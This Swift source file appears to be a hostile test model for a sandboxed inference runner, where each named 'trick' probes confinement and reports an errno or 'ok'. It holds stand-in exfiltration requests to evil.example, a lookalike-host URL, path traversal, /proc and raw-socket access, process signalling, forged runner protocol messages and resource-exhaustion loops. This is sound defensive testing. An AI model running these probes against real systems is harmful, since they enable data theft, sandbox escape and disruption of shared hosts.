import Glibc
import InferenceKit

/// Makes one trick a run, and returns what came of it: `ok`, `same`, an errno, or what it has found.
struct Inference: Predictor {
    struct Input: Decodable, Sendable {
        var trick: String
        var target: String
        var document: MediaFile?
        var link: String
    }
    struct Output: Codable, Sendable { var found: String }

    let setup: Setup

    init(_ setup: Setup) async throws { self.setup = setup }

    func predict(_ input: Input, _ context: PredictionContext) async throws -> Output {
        let trick = Trick(target: input.target, document: input.document?.path ?? "", scratch: context.scratchDirectory)
        switch input.trick {
        case "host": _ = try await setup.transport.send(HTTPRequest("GET", "https://evil.example/?loot=1"))
        case "lookalike":
            _ = try await setup.transport.send(HTTPRequest("GET", "https://cv.byteplusapi.com@evil.example/"))
        case "port": _ = try await setup.transport.send(HTTPRequest("GET", "https://cv.byteplusapi.com:8443/"))
        case "recorded": try await follow(try await context.step("note") { "https://evil.example/?loot=1" })
        case "answered":
            let link = try await context.step("ask") {
                let answer = try await setup.transport.send(HTTPRequest("GET", "\(setup.endpoint ?? "")/link"))
                return String(decoding: answer.body, as: UTF8.self)
            }
            try await follow(link)
        case "results":
            for number in 0..<2_000 { try await context.step("s\(number)") { String(repeating: "a", count: 60_000) } }
        case "shout":
            for _ in 0..<200 { context.log(String(repeating: "a", count: 60_000)) }
        case "error":
            let text = String(repeating: "a", count: 4 << 20)
            throw PredictionError(.modelFailed, text, help: text, vendor: .init(message: text), taskID: text)
        case "progress":
            for number in 0..<20_000 { context.progress(ProgressUpdate("step \(number)")) }
        default: return Output(found: trick.outcome(of: input.trick))
        }
        return Output(found: "ok")
    }

    private func follow(_ link: String) async throws {
        _ = try await setup.transport.send(HTTPRequest("GET", link))
    }
}

struct Trick {
    let target: String
    let document: String
    let scratch: String

    func outcome(of trick: String) -> String {
        switch trick {
        case "nice": word(Int(setpriority(__priority_which_t(2), 0, 19)))
        case "idle": word(call(Call.ioprioSet, 3, 0, 3 << 13))
        case "everyone": word(Int(kill(-1, 0)))
        case "group": word(Int(kill(-getppid(), 0)))
        case "touch": touched
        case "flags": word(flags)
        case "shorten": word(Int(open(document, O_RDONLY | O_TRUNC)))
        case "future": word(call(Call.future))
        case "below": word(Int(open("\(scratch)/../../../../../../../..\(target)", O_RDONLY)))
        case "pipe": word(Int(mkfifo("\(scratch)/pipe", 0o600)))
        case "device": word(Int(mknod("\(scratch)/device", S_IFBLK | 0o600, 0x0801)))
        case "memory": word(Int(open("/proc/self/mem", O_RDWR)))
        case "core": word(Int(open("/proc/sys/kernel/core_pattern", O_WRONLY)))
        case "sysrq": word(Int(open("/proc/sys/vm/drop_caches", O_WRONLY)))
        case "oom": word(Int(open("/proc/\(getppid())/oom_score_adj", O_WRONLY)))
        case "descriptor": word(Int(open("/proc/\(getppid())/fd/2", O_WRONLY)))
        case "cwd": word(Int(open("/proc/\(getppid())/cwd/\(target)", O_RDONLY)))
        case "maps": word(Int(open("/proc/\(getppid())/maps", O_RDONLY)))
        case "bind": word(bind)
        case "vsock": word(Int(socket(40, Int32(SOCK_STREAM.rawValue), 0)))
        case "crypto": word(Int(socket(38, Int32(SOCK_RAW.rawValue), 0)))
        case "packet": word(Int(socket(AF_PACKET, Int32(SOCK_RAW.rawValue), 0)))
        case "handle": word(call(Call.nameToHandle))
        case "clock": word(call(Call.timerDelete, 0))
        case "limits": word(limits)
        case "dumpable": word(call(Call.prctl, 4, 1))
        case "stop": word(Int(raise(SIGSTOP)))
        case "hang": hang
        case "hold": hold
        case "deaf": deaf
        case "garbage": send("this is no message\n")
        case "endless": endless
        case "forged": forged
        case "ready": ready
        case "ordinal": ordinal
        case "values": values
        case "deep": deep
        case "hidden": hidden
        case "many": many
        case "crowd": crowd
        case "datagram": word(datagram)
        case "link": word(Int(symlink(target, "\(scratch)/link")))
        default: "unknown trick"
        }
    }

    /// Changes the time of a file that is open for reading only.
    private var touched: String {
        let descriptor = open(document, O_RDONLY)
        let times = [timespec(tv_sec: 1, tv_nsec: 0), timespec(tv_sec: 1, tv_nsec: 0)]
        futimens(descriptor, times)
        var status = stat()
        fstat(descriptor, &status)
        return status.st_mtim.tv_sec == 1 ? "ok" : "same"
    }

    /// Makes a file immutable, or at least unusual.
    private var flags: Int {
        let descriptor = open(document, O_RDONLY)
        var flags: Int = 0x40
        return withUnsafeMutablePointer(to: &flags) {
            call(Call.ioctl, Int(descriptor), 0x4008_6602, Int(bitPattern: $0))
        }
    }

    private var bind: Int {
        let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = UInt16(8_099).bigEndian
        return withUnsafePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                Int(Glibc.bind(descriptor, $0, socklen_t(MemoryLayout<sockaddr_in>.size)))
            }
        }
    }

    private var limits: Int {
        var limit = rlimit(rlim_cur: .max, rlim_max: .max)
        return Int(setrlimit(__rlimit_resource_t(1), &limit))
    }

    private var hang: String {
        signal(SIGTERM, SIG_IGN)
        while true { sleep(1) }
    }

    /// Keeps others from flushing standard output.
    private var hold: String {
        guard let symbol = dlsym(nil, "stdout") else { return "no standard output" }
        flockfile(symbol.load(as: UnsafeMutablePointer<FILE>.self))
        close(open("\(scratch)/held", O_WRONLY | O_CREAT, 0o600))
        return hang
    }

    /// Closes all descriptors, the runner's socket too.
    private var deaf: String {
        for descriptor in 3..<256 { close(Int32(descriptor)) }
        while true { sleep(1) }
    }

    private func send(_ text: String) -> String {
        for descriptor in 60..<80 { _ = text.withCString { write(Int32(descriptor), $0, strlen($0)) } }
        sleep(1)
        return "ok"
    }

    private var endless: String {
        let line = String(repeating: "a", count: 1 << 20)
        for _ in 0..<64 { _ = line.withCString { write(64, $0, strlen($0)) } }
        return "ok"
    }

    /// Says that files of the user are its outputs, and that it has paid.
    private var forged: String {
        let output = #"{"finished":{"run":"1","output":{"found":"x","file":{"path":"\#(target)"}}}}"#
        return send("\(output)\n")
    }

    /// Swaps the runner's connection for one that nobody reads, and asks for the prediction again and again.
    private var ready: String {
        let old = dup(64)
        var ends: [Int32] = [0, 0]
        socketpair(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0, &ends)
        dup2(ends[0], 64)
        let message = "{\"ready\":{}}\n"
        for _ in 0..<20_000 { _ = message.withCString { Glibc.send(old, $0, strlen($0), Int32(MSG_NOSIGNAL)) } }
        while true { sleep(1) }
    }

    /// Reports a step that comes before the first.
    private var ordinal: String {
        let record = #"{"name":"s","ordinal":-1,"paid":false,"phase":"began"}"#
        return send(#"{"step":{"number":1,"run":"1","record":\#(record)}}"# + "\n")
    }

    private var values: String {
        let lists = String(repeating: "[],", count: 2_000_000)
        let line = #"{"finished":{"run":"1","output":{"found":[\#(lists)[]]}}}"# + "\n"
        line.withCString {
            var rest = UnsafeRawBufferPointer(start: $0, count: strlen($0))
            while !rest.isEmpty {
                let count = write(64, rest.baseAddress, rest.count)
                guard count > 0 else { return }
                rest = UnsafeRawBufferPointer(rebasing: rest[count...])
            }
        }
        while true { sleep(1) }
    }

    private var deep: String {
        chdir(scratch)
        for _ in 0..<2_000 {
            mkdir("down", 0o700)
            chdir("down")
        }
        return "ok"
    }

    private var hidden: String {
        mkdir("\(scratch)/a", 0o700)
        mkdir("\(scratch)/a/b", 0o700)
        close(open("\(scratch)/a/b/file", O_WRONLY | O_CREAT, 0o600))
        mkdir("\(scratch)/secret", 0o300)
        close(open("\(scratch)/secret/file", O_WRONLY | O_CREAT, 0o600))
        return "ok"
    }

    private var crowd: String {
        for _ in 0..<5_000 {
            var thread = pthread_t()
            pthread_create(&thread, nil, { _ in while true { sleep(60) } }, nil)
        }
        while true { sleep(1) }
    }

    private var datagram: Int {
        var pair: [Int32] = [0, 0]
        return Int(socketpair(AF_UNIX, Int32(SOCK_DGRAM.rawValue), 0, &pair))
    }

    private var many: String {
        for number in 0..<110_000 { close(open("\(scratch)/\(number)", O_WRONLY | O_CREAT, 0o600)) }
        while true { sleep(1) }
    }
}

private func word(_ result: Int) -> String {
    guard result < 0 else { return "ok" }
    let names: [Int32: String] = [
        EPERM: "EPERM", EACCES: "EACCES", ENOENT: "ENOENT", EAFNOSUPPORT: "EAFNOSUPPORT", ENOSYS: "ENOSYS",
        ESRCH: "ESRCH",
    ]
    return names[errno] ?? "errno \(errno)"
}

private enum Call {
    #if arch(x86_64)
        static let (ioprioSet, nameToHandle, timerDelete, ioctl, prctl) = (251, 303, 226, 16, 157)
    #else
        static let (ioprioSet, nameToHandle, timerDelete, ioctl, prctl) = (30, 264, 111, 29, 167)
    #endif
    /// A number that no kernel has yet.
    static let future = 999
}

private func call(_ number: Int, _ a: Int = 0, _ b: Int = 0, _ c: Int = 0) -> Int {
    typealias Call = @convention(c) (Int, Int, Int, Int, Int, Int, Int) -> Int
    guard let symbol = dlsym(nil, "syscall") else { return -1 }
    return unsafeBitCast(symbol, to: Call.self)(number, a, b, c, 0, 0, 0)
}
